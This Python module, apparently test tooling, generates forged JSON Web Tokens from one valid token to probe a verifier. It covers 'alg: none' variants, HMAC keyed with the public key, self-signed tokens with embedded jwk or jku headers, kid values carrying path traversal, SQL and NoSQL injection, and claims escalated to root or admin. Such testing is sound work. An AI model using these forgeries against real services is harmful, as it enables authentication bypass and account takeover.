"""Tokens that nobody issued, made from one that was: (what it is, the token)."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import random
from collections.abc import Iterator
from dataclasses import dataclass
from functools import cached_property
from typing import Any

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, padding, rsa

Forged = Iterator[tuple[str, str]]
DIGESTS = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}


def encode(raw: bytes) -> str:
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


def decode(part: str) -> bytes:
    return base64.urlsafe_b64decode(part + "=" * (-len(part) % 4))


def packed(members: Any) -> str:
    return encode(json.dumps(members, separators=(",", ":")).encode())


@dataclass
class Forger:
    """`keys` are the pool's published keys; `other` is a good token of another pool."""

    token: str
    keys: list[dict[str, str]]
    other: str
    seed: int = 6

    def __post_init__(self) -> None:
        self.head, self.payload, self.signature = self.token.split(".")
        self.header: dict[str, Any] = json.loads(decode(self.head))
        self.claims: dict[str, Any] = json.loads(decode(self.payload))
        self.chance = random.Random(self.seed)

    @cached_property
    def own_key(self) -> rsa.RSAPrivateKey:
        return rsa.generate_private_key(65537, 2048)

    def all(self, flips: int) -> Forged:
        yield from self.unsigned()
        yield from self.keyed_with_what_is_public()
        yield from self.signed_with_own_keys()
        yield from self.changed_claims()
        yield from self.spliced()
        yield from self.misshapen()
        yield from self.odd_signatures()
        yield from self.flipped(flips)

    def unsigned(self) -> Forged:
        for algorithm in ("none", "None", "NONE", "nOnE", "", None, 0, [], ["RS256"], "RS256 ", "rs256", "none\0RS256"):
            head = packed({**self.header, "alg": algorithm})
            for label, end in (("nothing", "."), ("the old signature", f".{self.signature}"), ("no dot", "")):
                yield f"alg {algorithm!r}, {label}", f"{head}.{self.payload}{end}"
        without = {name: value for name, value in self.header.items() if name != "alg"}
        yield "no alg", f"{packed(without)}.{self.payload}.{self.signature}"
        twice = encode(f'{{"alg":"none",{json.dumps(self.header)[1:]}'.encode())
        yield "alg none, then the right one", f"{twice}.{self.payload}."
        after = encode(f'{json.dumps(self.header)[:-1]},"alg":"none"}}'.encode())
        yield "the right alg, then none", f"{after}.{self.payload}."

    def keyed_with_what_is_public(self) -> Forged:
        """HMAC with everything that a verifier might take for its key."""
        for algorithm, digest in DIGESTS.items():
            for label, secret in self._public_secrets():
                for kid in (self.header["kid"], None):
                    signed = f"{packed({'alg': algorithm, 'typ': 'JWT', 'kid': kid})}.{self.payload}"
                    mac = hmac.new(secret, signed.encode(), digest).digest()
                    yield f"{algorithm} keyed with {label}, kid {kid is not None}", f"{signed}.{encode(mac)}"

    def _public_secrets(self) -> Iterator[tuple[str, bytes]]:
        jwk = next(key for key in self.keys if key["kid"] == self.header["kid"])
        numbers = rsa.RSAPublicNumbers(*(int.from_bytes(decode(jwk[name])) for name in ("e", "n")))
        public = numbers.public_key()
        forms, encodings = serialization.PublicFormat, serialization.Encoding
        for name, kind in (("SPKI", forms.SubjectPublicKeyInfo), ("PKCS1", forms.PKCS1)):
            pem = public.public_bytes(encodings.PEM, kind)
            yield f"{name} in PEM", pem
            yield f"{name} in PEM without its line end", pem.strip()
            yield f"{name} in DER", public.public_bytes(encodings.DER, kind)
        yield "the modulus", decode(jwk["n"])
        yield "the modulus as text", jwk["n"].encode()
        yield "the JWK", json.dumps(jwk).encode()
        yield "the kid", jwk["kid"].encode()
        yield "nothing", b""

    def signed_with_own_keys(self) -> Forged:
        own = self._own_jwk()
        embedded: dict[str, dict[str, Any]] = {
            "the pool's kid": {},
            "no kid": {"kid": None},
            "an empty kid": {"kid": ""},
            "an embedded jwk": {"jwk": own},
            "an embedded jwk with its own kid": {"jwk": own, "kid": own["kid"]},
            "jku": {"jku": "http://127.0.0.1:9/keys.json", "kid": own["kid"]},
            "x5u": {"x5u": "http://127.0.0.1:9/chain.pem"},
            "x5c": {"x5c": [encode(b"no certificate")]},
            "crit": {"crit": ["exp"], "exp": 1},
            "a kid that is a path": {"kid": "../../../../../../dev/null"},
            "a kid that is SQL": {"kid": "' UNION SELECT 'key' --"},
            "a kid that is a list": {"kid": [self.header["kid"]]},
            "a kid that is a map": {"kid": {"$ne": None}},
            "a kid that is a number": {"kid": 0},
            "a kid that is true": {"kid": True},
            "a kid of 10,000": {"kid": "k" * 10_000},
            "a kid with NUL": {"kid": self.header["kid"] + "\0"},
        }
        for label, changed in embedded.items():
            yield f"own RSA key, {label}", self._by_own_rsa({**self.header, **changed}, self.payload)
            yield (
                f"another person, own RSA key, {label}",
                self._by_own_rsa(
                    {**self.header, **changed}, packed({**self.claims, "sub": "somebody-else", "username": "root"})
                ),
            )
        yield from self._by_other_algorithms()

    def _by_other_algorithms(self) -> Forged:
        curve, edwards = ec.generate_private_key(ec.SECP256R1()), ed25519.Ed25519PrivateKey.generate()
        for name in ("ES256", "ES384", "EdDSA", "PS256", "RS384", "RS512", "RSA-OAEP", "dir", "RS256"):
            signed = f"{packed({**self.header, 'alg': name})}.{self.payload}"
            yield f"{name} by a curve", f"{signed}.{encode(curve.sign(signed.encode(), ec.ECDSA(hashes.SHA256())))}"
            yield f"{name} by Edwards", f"{signed}.{encode(edwards.sign(signed.encode()))}"
            yield f"{name} by zeros of a curve", f"{signed}.{encode(bytes(64))}"
            for hashed in (hashes.SHA1(), hashes.SHA256(), hashes.SHA384(), hashes.SHA512()):
                by_rsa = self.own_key.sign(signed.encode(), padding.PKCS1v15(), hashed)
                yield f"{name} by RSA and {hashed.name}", f"{signed}.{encode(by_rsa)}"

    def changed_claims(self) -> Forged:
        """Each claim changed under the good signature, and under one's own."""
        changes: dict[str, Any] = {
            "sub": "11111111-1111-1111-1111-111111111111",
            "username": "root",
            "cognito:username": "root",
            "cognito:groups": ["admins"],
            "exp": 4102444800,
            "iss": json.loads(decode(self.other.split(".")[1]))["iss"],
            "aud": "another-client",
            "client_id": "another-client",
            "token_use": "access" if self.claims.get("token_use") == "id" else "id",
            "scope": "aws.cognito.signin.user.admin openid admin",
            "email": "root@example.com",
            "jti": "another",
            "auth_time": 0,
        }
        for name, value in changes.items():
            claims = packed({**self.claims, name: value})
            yield f"{name} changed, the signature kept", f"{self.head}.{claims}.{self.signature}"
            yield f"{name} changed, own key", self._by_own_rsa(self.header, claims)
        twice = encode(json.dumps(self.claims)[:-1].encode() + b',"sub":"root"}')
        yield "sub said twice", f"{self.head}.{twice}.{self.signature}"
        for label, claims in (("no claims", {}), ("a list", []), ("a text", "x"), ("null", None)):
            yield f"{label} for claims, the signature kept", f"{self.head}.{packed(claims)}.{self.signature}"
            yield f"{label} for claims, own key", self._by_own_rsa(self.header, packed(claims))

    def spliced(self) -> Forged:
        """Parts of two good tokens put together."""
        head, payload, signature = self.other.split(".")
        yield "of another pool", self.other
        yield "of another pool with this pool's kid", f"{self.head}.{payload}.{signature}"
        yield "this payload, the other's signature", f"{self.head}.{self.payload}.{signature}"
        yield "this payload, the other's header and signature", f"{head}.{self.payload}.{signature}"
        yield "the other's payload, this signature", f"{self.head}.{payload}.{self.signature}"

    def misshapen(self) -> Forged:
        token = self.token
        yield "nothing", ""
        yield "dots", ".."
        yield "two parts", f"{self.head}.{self.payload}"
        yield "four parts", f"{token}.{self.signature}"
        yield "five parts", f"{self.head}.{self.payload}.{self.signature}.a.b"
        yield "a dot before", f".{token}"
        yield "a dot after", f"{token}."
        yield "padded", ".".join(part + "=" for part in token.split("."))
        yield "twice", f"{token}{token}"
        yield "two with a comma", f"{token},{token}"
        yield "a letter more", f"{token}A"
        yield "a letter less", token[:-1]
        yield "the signature in another alphabet", f"{self.head}.{self.payload}.{self.signature}+/"
        yield "a blank within the payload", f"{self.head}.{self.payload[:9]} {self.payload[9:]}.{self.signature}"
        yield (
            "an asterisk within the signature",
            f"{self.head}.{self.payload}.{self.signature[:9]}*{self.signature[9:]}",
        )
        yield "the payload in another base", f"{self.head}.{decode(self.payload).hex()}.{self.signature}"
        parts = {"protected": self.head, "payload": self.payload, "signature": self.signature}
        yield "in JSON", json.dumps(parts, separators=(",", ":"))
        yield (
            "with b64 false",
            f"{packed({**self.header, 'b64': False, 'crit': ['b64']})}.{self.payload}.{self.signature}",
        )
        yield "zipped, it says", f"{packed({**self.header, 'zip': 'DEF'})}.{self.payload}.{self.signature}"
        yield "deep", f"{encode(b'[' * 5_000)}.{self.payload}.{self.signature}"
        yield "a header that is a list", f"{packed([self.header])}.{self.payload}.{self.signature}"

    def odd_signatures(self) -> Forged:
        """Numbers for which RSA is easy, and the same bytes written in another way."""
        length = len(decode(self.signature))
        number = int.from_bytes(decode(self.signature))
        modulus = int.from_bytes(decode(next(k["n"] for k in self.keys if k["kid"] == self.header["kid"])))
        odd = {"zero": bytes(length), "one": (1).to_bytes(length), "the modulus": modulus.to_bytes(length)}
        odd["the modulus less one"] = (modulus - 1).to_bytes(length)
        odd["the signature and the modulus"] = (number + modulus).to_bytes(length + 1)
        odd["its negative"] = (modulus - number).to_bytes(length)
        odd["a zero before"] = b"\0" + decode(self.signature)
        odd["a zero after"] = decode(self.signature) + b"\0"
        odd["half"] = decode(self.signature)[: length // 2]
        for label, raw in odd.items():
            yield f"the signature is {label}", f"{self.head}.{self.payload}.{encode(raw)}"
        alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
        last = alphabet.index(self.signature[-1])
        for bits in range(1, 16):
            other = alphabet[(last & 0b110000) | ((last + bits) & 0b001111)]
            yield f"bits that stand for nothing, {bits}", f"{self.head}.{self.payload}.{self.signature[:-1]}{other}"

    def flipped(self, number: int) -> Forged:
        """One bit of the decoded bytes, in turn of each part."""
        parts = self.token.split(".")
        for count in range(number):
            which = count % 3
            raw = bytearray(decode(parts[which]))
            place = self.chance.randrange(len(raw) * 8)
            raw[place // 8] ^= 1 << place % 8
            changed = [*parts[:which], encode(bytes(raw)), *parts[which + 1 :]]
            yield f"bit {place} of part {which} flipped", ".".join(changed)

    def _by_own_rsa(self, header: dict[str, Any], payload: str) -> str:
        signed = f"{packed(header)}.{payload}"
        return f"{signed}.{encode(self.own_key.sign(signed.encode(), padding.PKCS1v15(), hashes.SHA256()))}"

    def _own_jwk(self) -> dict[str, str]:
        numbers = self.own_key.public_key().public_numbers()
        raw = {"n": numbers.n.to_bytes(256), "e": numbers.e.to_bytes(3)}
        named = {name: encode(value) for name, value in raw.items()}
        return {"kty": "RSA", "alg": "RS256", "use": "sig", "kid": "own", **named}
